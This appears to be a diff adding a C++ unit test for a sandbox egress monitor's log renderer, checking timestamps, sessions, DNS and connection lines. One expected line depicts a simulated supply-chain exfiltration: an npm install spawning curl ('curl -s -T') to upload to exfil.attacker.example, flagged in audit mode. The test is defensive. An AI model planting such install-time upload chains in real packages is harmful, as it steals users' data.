@@ -1,6 +1,8 @@
 #include "evidence/story.hpp"
 #include "unit/evidence/scripted_log.hpp"
 
+#include <algorithm>
+
 #include <boost/json/parse.hpp>
 #include <boost/json/serialize.hpp>
 #include <doctest/doctest.h>
@@ -267,4 +269,34 @@ TEST_CASE("conn ids restart with the daemon: a close joins the connection of its
   CHECK_FALSE(s.steps[1].closed.has_value());  // the first run's connection 1 never closed
   REQUIRE(s.steps[3].closed.has_value());
   CHECK(s.steps[3].closed->bytes_up == 5u);
+}
+
+TEST_CASE("one line at a time, as tail shows them: time, session, the step and its details") {
+  line_renderer render;
+  std::vector<std::string> out;
+  std::string_view text = airlock::test::scripted_log;
+  while (!text.empty()) {
+    const auto nl = text.find('\n');
+    if (auto ev = parse_event(text.substr(0, nl))) out.push_back(render.render(*ev));
+    text.remove_prefix(nl == std::string_view::npos ? text.size() : nl + 1);
+  }
+  REQUIRE(out.size() >= 10);
+  CHECK(out[0] == "2026-12-02 14:21:15.900 sbx-7f3a session open, policy agent, sources 198.51.100.2/32\n");
+  CHECK(out[1] ==
+        "14:21:16.010 other dns A example.org -> 203.0.113.7 NOERROR; allow host_allowed (rule airlock.yaml:20)\n");
+  const auto exfil = std::find_if(out.begin(), out.end(), [](const auto& l) { return l.starts_with("14:21:19.050"); });
+  REQUIRE(exfil != out.end());
+  check_in_order(*exfil, {"14:21:19.050 sbx-7f3a dns A exfil.attacker.example -> 203.0.113.66 NOERROR",
+                          "; AUDIT-DENY host_not_allowed (rule default; let through in audit mode)",
+                          "; process npm install -> sh -> node -> curl (pid 4242: curl -s -T"});
+  // A decision alone says nothing of what came after it (its close line will).
+  const auto npm = std::find_if(out.begin(), out.end(), [](const auto& l) { return l.starts_with("14:21:17.480"); });
+  REQUIRE(npm != out.end());
+  CHECK(*npm ==
+        "14:21:17.480 sbx-7f3a connect tls registry.npmjs.org 104.16.24.34:443; allow host_allowed (rule <family "
+        "npm>:7); process npm install (pid 4201: npm install)\n");
+  for (const auto& line : out) {
+    CHECK(line.ends_with("\n"));
+    CHECK(std::count(line.begin(), line.end(), '\n') == 1);
+  }
 }
